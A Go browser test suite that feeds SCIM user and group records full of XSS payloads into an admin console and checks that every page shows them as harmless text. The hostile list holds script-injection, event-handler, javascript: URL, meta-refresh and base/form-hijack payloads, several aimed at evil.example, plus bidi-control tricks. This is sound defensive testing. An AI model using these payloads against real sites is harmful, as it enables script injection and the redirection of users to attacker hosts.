//go:build console

package console_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/chromedp/chromedp"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

// hostile are texts that an identity provider sends as a name, to have them run as a script, or to load something.
var hostile = []string{
	`<script>window.pwned=1</script>`,
	`<img src=x onerror="window.pwned=1">`,
	`"><svg onload=alert(1)>`,
	`' autofocus onfocus='window.pwned=1' x='`,
	`" hx-get="https://evil.example/" hx-trigger="load" x="`,
	`</title></textarea></script><script>alert(1)</script>`,
	`javascript:window.pwned=1`,
	`<a href="javascript:window.pwned=1">click</a>`,
	`<style>@import url(https://evil.example/x.css)</style>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/"><form action="https://evil.example/">`,
	`{{.CSRFToken}}${window.pwned=1}<!--`,
	"\u202Egnp.exe\u2066", // bidi controls
	`&lt;script&gt;&#60;script&#62;`,
}

// controls are characters that no text of a page may have as they are: a bidi override would reorder what follows it.
const controls = "\u0000\u0007\u001b\u0085\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

// hostileUser returns a user of SCIM whose attributes are all one text.
func hostileUser(text string, i int) map[string]any {
	values := []any{map[string]any{"value": text, "display": text, "type": text, "primary": true}}
	user := map[string]any{
		"schemas":     []string{"urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"},
		"userName":    visible(text, i),
		"displayName": visible(text, i),
		"externalId":  fmt.Sprint(text, " ", i),
		"active":      true,
		"name": map[string]any{
			"formatted": text, "familyName": text, "givenName": text, "middleName": text, "honorificPrefix": text, "honorificSuffix": text,
		},
		"addresses": []any{map[string]any{
			"formatted": text, "streetAddress": text, "locality": text, "region": text, "postalCode": text, "country": text, "type": text,
		}},
		"urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": map[string]any{
			"employeeNumber": text, "costCenter": text, "organization": text, "division": text, "department": text,
			"manager": map[string]any{"value": text, "displayName": text},
		},
	}
	for _, name := range []string{"nickName", "profileUrl", "title", "userType", "preferredLanguage", "locale", "timezone"} {
		user[name] = text
	}
	for _, name := range []string{"emails", "phoneNumbers", "ims", "photos", "entitlements", "roles"} {
		user[name] = values
	}
	return user
}

// visible returns a text as a name that is unique, and without the invisible characters that SCIM refuses in names.
func visible(text string, i int) string {
	return fmt.Sprint(strings.Trim(text, invisible), " ", i)
}

// invisible are those at the ends of a hostile text.
const invisible = "\u202e\u2066\u2069"

// create has the provider create a resource until the end of the spec, and returns its id.
func create(ctx context.Context, endpoint string, resource map[string]any) string {
	GinkgoHelper()
	body, err := json.Marshal(resource)
	Expect(err).NotTo(HaveOccurred())
	id := scim(ctx, http.StatusCreated, "POST", endpoint, string(body)).ID()
	DeferCleanup(func(ctx context.Context) { scim(ctx, http.StatusNoContent, "DELETE", endpoint+"/"+id, "") })
	return id
}

// createHostile has the provider create a user of a text, and a group of it that the user is in.
func createHostile(ctx context.Context, text string, i int) (user, group string) {
	GinkgoHelper()
	user = create(ctx, "/Users", hostileUser(text, i))
	group = create(ctx, "/Groups", map[string]any{
		"schemas": []string{"urn:ietf:params:scim:schemas:core:2.0:Group"}, "displayName": visible(text, i), "externalId": text,
		"members": []any{map[string]any{"value": user, "display": text}},
	})
	return user, group
}

// createLong has the provider create a user and a group whose names are one word of the greatest length.
func createLong(ctx context.Context) {
	GinkgoHelper()
	long := strings.Repeat("W", 256)
	user := hostileUser("large", 0)
	user["userName"], user["displayName"] = long, long
	create(ctx, "/Groups", map[string]any{
		"schemas": []string{"urn:ietf:params:scim:schemas:core:2.0:Group"}, "displayName": long, "externalId": long,
		"members": []any{map[string]any{"value": create(ctx, "/Users", user)}},
	})
}

// expectHarmless expects that nothing of the page that the tab shows came from a name.
func expectHarmless(t *tab, path string) {
	GinkgoHelper()
	Expect(evaluate[string](t, "typeof window.pwned")).To(Equal("undefined"), path)
	Expect(evaluate[int](t, `document.querySelectorAll("main script, main style, main img, main svg, main meta, main base, main [onerror], main [onfocus], main [onload]").length`)).To(BeZero(), path)
	Expect(evaluate[int](t, `[...document.links].filter(a => a.origin !== location.origin).length`)).To(BeZero(), path)
	Expect(evaluate[int](t, `[...document.forms].filter(f => new URL(f.action).origin !== location.origin).length`)).To(BeZero(), path)
	Expect(evaluate[string](t, `document.title + document.body.innerText`)).NotTo(ContainAny(controls), path)
	t.expectNoFaults()
}

// ContainAny matches a text that has one of the characters.
func ContainAny(characters string) OmegaMatcher {
	return WithTransform(func(text string) bool { return strings.ContainsAny(text, characters) }, BeTrue())
}

var _ = Describe("a name that is markup", func() {
	It("is text on each page", func(ctx SpecContext) {
		t := browse(ctx, admin)
		for i, text := range hostile {
			user, group := createHostile(ctx, text, i)
			for _, path := range []string{directory("users?q=" + url.QueryEscape(text)), directory("groups/" + group), directory("users/" + user)} {
				t.goTo(path)
				Eventually(t.isWhole).Should(BeTrue(), path)
				expectHarmless(t, path)
			}
			Expect(t.text("h1")).To(Equal(visible(text, i)))
		}
		t.eachPage(ctx, func(place string) { expectHarmless(t, place) })
	})

	It("is text in an address", func(ctx SpecContext) {
		t := browse(ctx, admin)
		all := strings.Join(hostile, "")
		segment, value := url.PathEscape(all), url.QueryEscape(all)
		for _, path := range []string{
			"/" + segment, "/directories/" + segment + "/", directory("users/" + segment), directory("groups/" + segment),
			directory("users?state=" + value + "&source=" + value), directory("users?continue=" + value), directory("groups?q=" + value),
			directory("groups/" + engineers + "?part=" + value), directory("?done=" + value),
		} {
			t.load(path)
			expectHarmless(t, path)
		}
	})

	It("is cut by no limit and breaks no page if it is as large as SCIM permits", func(ctx SpecContext) {
		text := strings.Repeat(`<img src=x onerror="window.pwned=1">`, 4000/36)
		user := hostileUser("large", 0)
		var photos []any
		for i := range 8 {
			photos = append(photos, map[string]any{"value": fmt.Sprint(i, text)})
		}
		user["photos"], user["displayName"] = photos, strings.Repeat("W", 256)
		id := create(ctx, "/Users", user)
		t := browse(ctx, admin)
		t.do(chromedp.EmulateViewport(1280, 900))
		t.goTo(directory("users/" + id))
		expectHarmless(t, id)
		Expect(strings.Count(t.text("main"), text)).To(Equal(len(photos)))
		expectNoScrolling(t, id)
		t.goTo(directory("users"))
		expectHarmless(t, "users")
		expectNoScrolling(t, "users")
		Expect(evaluate[string](t, brokenWords("tbody :is(th, td)"))).To(BeEmpty())
	})
})

var _ = Describe("a tab", func() {
	It("sees a script, a dialog and a request that no page may have", func(ctx SpecContext) {
		t := browse(ctx, viewer)
		evaluate[bool](t, `alert("seen"), true`)
		evaluate[bool](t, `document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/x.png" onerror="window.pwned=1">'), true`)
		Eventually(func() []string {
			t.mu.Lock()
			defer t.mu.Unlock()
			return append(append([]string{}, t.faults...), t.dialogs...)
		}).Should(And(ContainElement(ContainSubstring("evil.example")), ContainElement("seen")))
		t.mu.Lock()
		defer t.mu.Unlock()
		t.faults, t.dialogs, t.requests = nil, nil, nil // they were this spec's
	})
})
